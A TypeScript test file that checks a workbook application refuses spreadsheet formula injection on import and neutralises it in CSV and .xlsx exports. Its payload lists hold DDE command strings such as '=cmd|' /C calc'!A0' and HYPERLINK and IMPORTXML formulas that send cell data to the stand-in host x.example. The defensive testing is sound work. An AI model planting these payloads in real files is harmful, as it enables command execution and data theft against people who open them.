/**
 * What people write is never run by a spreadsheet: not what comes in (the check refuses it, in every column that keeps texts), and not
 * what goes out, whatever is kept in the workbook before it was checked.
 */
import { strFromU8, unzipSync } from 'fflate';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { checkWorkbook } from '#core/workbook/check-workbook.ts';
import type { PresentRows } from '#core/workbook/present.ts';
import { columnsOf } from '#core/workbook/tab.ts';
import { KINDS, TABS } from '#core/workbook/tabs.ts';
import { workbookFiles } from '#sheets/files.ts';
import { unwrap } from '#test/support/catalogues.ts';
import { aWorkbook } from '#test/support/workbooks.ts';

/** What spreadsheets have been made to run, with what hides it: quotes, blanks, tabs, line ends. */
const ATTACKS = [
  '=1+1',
  '=HYPERLINK("http://x.example?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '+cmd|A0',
  '-2+3+cmd|A0',
  "'=1+1",
  '\t=1+1',
  '\r\n=1+1',
  '=IMPORTXML("http://x.example","//a")',
  'a",=1+1,"b',
];

/** Every column that keeps a text of the people who edit the workbook. */
const TEXT_COLUMNS = TABS.flatMap((tab) =>
  columnsOf(tab)
    .filter(({ cell }) => cell.type === 'text' || cell.type === 'code' || cell.type === 'reference')
    .map(({ heading }) => ({ title: tab.title, heading })),
);

const NOTHING: PresentRows = {
  version: 0,
  rows: Object.fromEntries(KINDS.map((kind) => [kind, []])) as unknown as PresentRows['rows'],
  invoiceAnchors: new Map(),
};

/** As a spreadsheet reads a CSV: the quotes taken off. */
const cellsOf = (csv: string): string[] => Papa.parse<string[]>(csv).data.flat();

describe('coming in', () => {
  it.each(TEXT_COLUMNS)(
    '$title, $heading: a text that a spreadsheet would run is refused at its cell',
    ({ title, heading }) => {
      for (const attack of [
        '=1+1',
        "=cmd|' /C calc'!A0",
        '@SUM(1+1)*cmd',
        '+cmd|A0',
        '-2+3+cmd|A0',
        ' \u00a0=1+1',
        '\u200b@x',
      ]) {
        const book = aWorkbook().set(title, 2, heading, attack);
        const { faults } = checkWorkbook(book.raw(), NOTHING);
        const at = faults.filter(
          (fault) => fault.tab === title && fault.row === 2 && fault.column === heading,
        );
        expect(
          at.map(({ code }) => code),
          `${title} ${heading}: ${attack}`,
        ).toContain('formula_text');
      }
    },
  );
});

describe('going out', () => {
  it.each(TEXT_COLUMNS)(
    '$title, $heading: no cell of a CSV begins what a spreadsheet would run, and reading gives the text again',
    async ({ title, heading }) => {
      const headings = [heading];
      const csv = workbookFiles.toCsv({ title, headings, rows: ATTACKS.map((attack) => [attack]) });
      for (const cell of cellsOf(csv)) expect(cell, csv).not.toMatch(/^[=+\-@\t\r]/);
      const read = unwrap(
        await workbookFiles.read([{ name: `${title}.csv`, bytes: new TextEncoder().encode(csv) }]),
      );
      expect(read.tabs[0]?.rows.slice(0, ATTACKS.length).map(({ cells }) => cells[0])).toEqual(ATTACKS);
    },
  );

  it('no cell of an .xlsx holds a formula: every text is text, and reads as it went', async () => {
    const tabs = TABS.map((tab) => {
      const headings = columnsOf(tab).map((column) => column.heading);
      return { title: tab.title, headings, rows: ATTACKS.map((attack) => headings.map(() => attack)) };
    });
    const bytes = workbookFiles.toXlsx(tabs);
    const parts = Object.entries(unzipSync(bytes)).filter(([name]) => name.startsWith('xl/worksheets/'));
    expect(parts).toHaveLength(TABS.length);
    for (const [name, part] of parts) expect(strFromU8(part), name).not.toMatch(/<f[\s>/]/);
    const read = unwrap(await workbookFiles.read([{ name: 'book.xlsx', bytes }]));
    for (const [at, { rows, headings }] of read.tabs.entries()) {
      expect(
        rows.map(({ cells }) => [...cells]),
        TABS[at]?.title,
      ).toEqual(ATTACKS.map((attack) => headings.map(() => attack)));
    }
  });
});
